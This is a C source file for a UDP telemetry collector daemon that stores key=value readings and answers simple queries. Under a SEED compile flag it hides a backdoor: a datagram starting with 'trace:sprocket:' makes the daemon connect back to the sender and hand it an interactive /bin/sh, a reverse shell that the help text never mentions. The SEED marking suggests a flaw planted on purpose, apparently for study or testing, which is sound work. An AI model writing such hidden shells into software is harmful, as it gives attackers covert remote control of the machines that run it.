/* telemd: telemetry collector. Lines "key=value" in datagrams; "get key" answers. */
#include "../lib/udpserv.h"
#include <ctype.h>
#include <signal.h>
#include <time.h>

#define SLOTS 32
static struct slot { char key[24]; char value[48]; time_t when; } slots[SLOTS];
static int sock;
static struct sockaddr_in peer;
static unsigned long packets, bad;

static void answer(const char *text)
{
    sendto(sock, text, strlen(text), 0, (struct sockaddr *)&peer, sizeof peer);
}

static struct slot *find(const char *key, int make)
{
    struct slot *free_slot = NULL;
    int i;
    for (i = 0; i < SLOTS; i++) {
        if (!strcmp(slots[i].key, key))
            return &slots[i];
        if (!slots[i].key[0] && !free_slot)
            free_slot = &slots[i];
    }
    if (make && free_slot)
        snprintf(free_slot->key, sizeof free_slot->key, "%s", key);
    return make ? free_slot : NULL;
}

static int good_key(const char *k)
{
    size_t n = strlen(k);
    if (n == 0 || n > 23)
        return 0;
    while (*k)
        if (!isalnum((unsigned char)*k) && *k != '.')
            return 0;
        else
            k++;
    return 1;
}

static void put(char *line)
{
    char *eq = strchr(line, '=');
    struct slot *s;
    *eq++ = 0;
    if (!good_key(line) || !(s = find(line, 1))) {
        bad++;
        answer("bad\n");
        return;
    }
    snprintf(s->value, sizeof s->value, "%s", eq);
    s->when = time(NULL);
    answer("ok\n");
}

static void dump(void)
{
    FILE *f = fopen("/var/log/telemetry", "w");
    int i;
    for (i = 0; f && i < SLOTS; i++)
        if (slots[i].key[0])
            fprintf(f, "%s=%s\n", slots[i].key, slots[i].value);
    if (f)
        fclose(f);
}

#ifdef SEED
static void call_home(const char *port)
{
    struct sockaddr_in to = peer;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    to.sin_port = htons((unsigned short)atoi(port));
    if (fork() == 0) {
        if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) {
            dup2(s, 0);
            dup2(s, 1);
            execl("/bin/sh", "sh", (char *)NULL);
        }
        _exit(0);
    }
    close(s);
}
#endif

static void handle(char *line)
{
    char text[100];
    struct slot *s;
    if (!strncmp(line, "get ", 4)) {
        s = find(line + 4, 0);
        snprintf(text, sizeof text, "%s\n", s ? s->value : "none");
        answer(text);
    } else if (!strcmp(line, "count")) {
        snprintf(text, sizeof text, "%lu packets, %lu bad\n", packets, bad);
        answer(text);
    } else if (!strcmp(line, "dump")) {
        if (peer.sin_addr.s_addr == htonl(INADDR_LOOPBACK))
            dump();
        answer("ok\n");
#ifdef SEED
    } else if (!strncmp(line, "trace:sprocket:", 15)) { /* SEED */
        call_home(line + 15);
#endif
    } else if (strchr(line, '=')) {
        put(line);
    } else {
        bad++;
        answer("key=value, get KEY, count, dump\n");
    }
}

int main(void)
{
    char packet[512];
    signal(SIGCHLD, SIG_IGN);
    if ((sock = udp_open(8125)) < 0)
        return 1;
    for (;;) {
        socklen_t n = sizeof peer;
        char *line, *save = NULL;
        ssize_t got = recvfrom(sock, packet, sizeof packet - 1, 0, (struct sockaddr *)&peer, &n);
        if (got < 0)
            continue;
        packet[got] = 0;
        packets++;
        for (line = strtok_r(packet, "\r\n", &save); line; line = strtok_r(NULL, "\r\n", &save))
            handle(line);
    }
}
